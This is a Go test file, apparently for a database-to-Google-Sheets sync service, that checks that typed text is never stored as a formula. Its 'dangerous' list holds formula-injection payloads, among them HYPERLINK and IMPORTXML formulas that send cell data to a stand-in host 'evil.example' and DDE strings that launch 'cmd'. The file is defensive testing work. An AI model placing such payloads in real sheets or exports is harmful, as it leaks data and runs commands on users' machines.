package server_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/tandem-sync/tandem/sheets/emulator"
)

// dangerous are texts that a sheet would take for something else if they were typed.
var dangerous = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=IMPORTXML("http://evil.example","//a")`, "+1", "-1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "@x",
	"'=1", "'", "''", "\t=1+1", "\n=1+1", "\r=1+1", " =1+1", "=", "==", "=1+1", "=A1", "1e5", "00123", "TRUE", "1/2", "2026-11-21", "12:30", "$5", "50%", "#REF!", "#N/A", "＝1+1", "\u200b=1", `"=1"`,
	"=1\n=2", "{=1}", "R1C1", "javascript:alert(1)", "%0A=1", ";=1", "|cmd", "=cmd|'/C calc'!A0", "-0", "+", "-", "@", "\u00a0=1"}

// randomText is made of pieces that mean something to a sheet.
func randomText(random *rand.Rand) string {
	pieces := []string{"=", "+", "-", "@", "'", "\"", "\t", "\n", " ", "(", ")", "A1", "SUM", "1", "0", ".", "e", "&", "!", "Film", "é", "😀", "TRUE", "/", ":", "$", "%", "#", "HYPERLINK(\"x\")"}
	var text strings.Builder
	for range 1 + random.IntN(8) {
		text.WriteString(pieces[random.IntN(len(pieces))])
	}
	return text.String()
}

// Text stays text in the sheet, whichever way it comes: through REST on the sheet, on the database, or by SQL. And it comes
// back as it was.
func TestTextIsNeverAFormula(t *testing.T) {
	s := newStand(t, "CREATE TABLE film (id INTEGER PRIMARY KEY, title TEXT, note TEXT)", emulator.Tab{Title: "Film"})
	s.link("film", "Film")
	seed := rand.Uint64()
	t.Logf("seed %d", seed)
	random := rand.New(rand.NewPCG(seed, 1))
	texts := append([]string{}, dangerous...)
	for range 150 {
		texts = append(texts, randomText(random))
	}
	want := map[string]string{}
	type mutation map[string]any
	batch := map[string][]mutation{}
	for i, text := range texts {
		id := fmt.Sprint(i + 1)
		want[id] = text
		values := map[string]any{"id": id, "title": text, "note": text}
		switch source := []string{"sheet", "database", "sql"}[i%3]; source {
		case "sql":
			if _, err := s.db.ExecContext(t.Context(), "INSERT INTO film VALUES (?, ?, ?)", i+1, text, text); err != nil {
				t.Fatal(err)
			}
		default:
			batch[source] = append(batch[source], mutation{"mutationId": fmt.Sprint(source, i), "type": "CREATE", "row": map[string]any{"values": values}})
		}
	}
	for source, mutations := range batch {
		body, err := json.Marshal(map[string]any{"mutations": mutations})
		if err != nil {
			t.Fatal(err)
		}
		answer := s.must("POST", "/v1/links/film/sources/"+source+"/rows:mutate", string(body))
		for i, result := range answer["results"].([]any) {
			if got := result.(map[string]any); got["status"] != "APPLIED" {
				t.Errorf("%s, %q: %v", source, mutations[i]["row"], got)
			}
		}
	}
	// One by one too, as an edit of a row that is there.
	for _, source := range []string{"sheet", "database"} {
		body, _ := json.Marshal(map[string]any{"values": map[string]any{"note": dangerous[0]}})
		s.must("PATCH", "/v1/links/film/sources/"+source+"/rows/1", string(body))
	}
	for _, source := range []string{"sheet", "database"} {
		s.eventually(func() string { return s.texts(source, want) })
	}
	s.cellsAreText(len(texts))
}

// texts says in what the titles of a source differ.
func (s *stand) texts(source string, want map[string]string) string {
	s.Helper()
	page := s.must("GET", "/v1/links/film/sources/"+source+"/rows?page_size=1000&max_staleness=0s", "")
	rows, _ := page["rows"].([]any)
	if len(rows) != len(want) {
		return fmt.Sprintf("%d rows in the %s, want %d", len(rows), source, len(want))
	}
	for _, row := range rows {
		values, _ := row.(map[string]any)["values"].(map[string]any)
		id := fmt.Sprint(values["id"])
		if values["title"] != want[id] {
			return fmt.Sprintf("row %s of the %s holds %q, want %q", id, source, values["title"], want[id])
		}
	}
	return ""
}

// cellsAreText looks at the cells as Google keeps what was entered.
func (s *stand) cellsAreText(rows int) {
	s.Helper()
	recorder := httptest.NewRecorder()
	s.google.ServeHTTP(recorder, httptest.NewRequest("GET", "/v4/spreadsheets/"+standSheet+"?ranges=Film!A1:C1000&includeGridData=true", nil))
	if recorder.Code != http.StatusOK {
		s.Fatal(recorder.Body)
	}
	var answer struct {
		Sheets []struct {
			Data []struct {
				RowData []struct {
					Values []struct {
						UserEnteredValue map[string]any `json:"userEnteredValue"`
					} `json:"values"`
				} `json:"rowData"`
			} `json:"data"`
		} `json:"sheets"`
	}
	if err := json.Unmarshal(recorder.Body.Bytes(), &answer); err != nil {
		s.Fatal(err)
	}
	seen := 0
	for i, row := range answer.Sheets[0].Data[0].RowData {
		for j, cell := range row.Values {
			if i == 0 || j == 0 || len(cell.UserEnteredValue) == 0 {
				continue
			}
			seen++
			if _, isText := cell.UserEnteredValue["stringValue"].(string); !isText {
				s.Errorf("row %d, column %d holds %v, which is no text", i+1, j+1, cell.UserEnteredValue)
			}
		}
	}
	if seen < 2*rows {
		s.Errorf("%d cells hold something, want %d", seen, 2*rows)
	}
}
